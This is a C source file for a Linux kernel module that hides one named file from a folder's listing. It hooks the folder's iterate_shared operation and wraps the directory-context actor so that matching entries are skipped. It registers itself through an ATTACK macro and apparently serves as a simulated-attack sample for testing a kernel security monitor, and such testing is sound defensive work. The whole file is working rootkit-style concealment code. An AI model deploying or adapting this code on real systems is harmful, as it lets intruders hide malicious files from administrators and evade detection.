// SPDX-License-Identifier: GPL-2.0-only
/*
 * Leaves one name out of the listing of a folder, by file operations of its own for that
 * folder, whose listing goes through a filter. What the filter returns for "go on" changed
 * its type in 6.1: 0 of an int became true of a bool.
 */
#include "folder.h"

static char *path = "/tmp";
module_param(path, charp, 0);
static char *name = "lksm_hidden";
module_param(name, charp, 0);

struct filter {
	struct dir_context context;
	struct dir_context *next;
};

#define GO_ON                                                                \
	__builtin_choose_expr(                                               \
		__builtin_types_compatible_p(                                \
			__typeof__(((struct dir_context *)0)                 \
					   ->actor(NULL, NULL, 0, 0, 0, 0)), \
			int),                                                \
		0, true)

static __typeof__(((struct dir_context *)0)->actor(NULL, NULL, 0, 0, 0, 0)) on_entry(
	struct dir_context *context, const char *entry, int size, loff_t offset,
	u64 number, unsigned int type)
{
	struct filter *filter = container_of(context, struct filter, context);

	if (size == (int)strlen(name) && !memcmp(entry, name, size))
		return GO_ON;
	filter->next->pos = context->pos;
	return filter->next->actor(filter->next, entry, size, offset, number, type);
}

static int replacement(struct file *file, struct dir_context *context)
{
	struct filter filter = { .next = context };
	int r;

	memcpy(&filter.context, &(struct dir_context){ .actor = on_entry },
	       sizeof(filter.context));
	filter.context.pos = context->pos;
	r = folder_old->iterate_shared(file, &filter.context);
	context->pos = filter.context.pos;
	return r;
}

static int change(void)
{
	return folder_hook(path, replacement);
}

ATTACK(change, folder_unhook, "a file that is hidden");
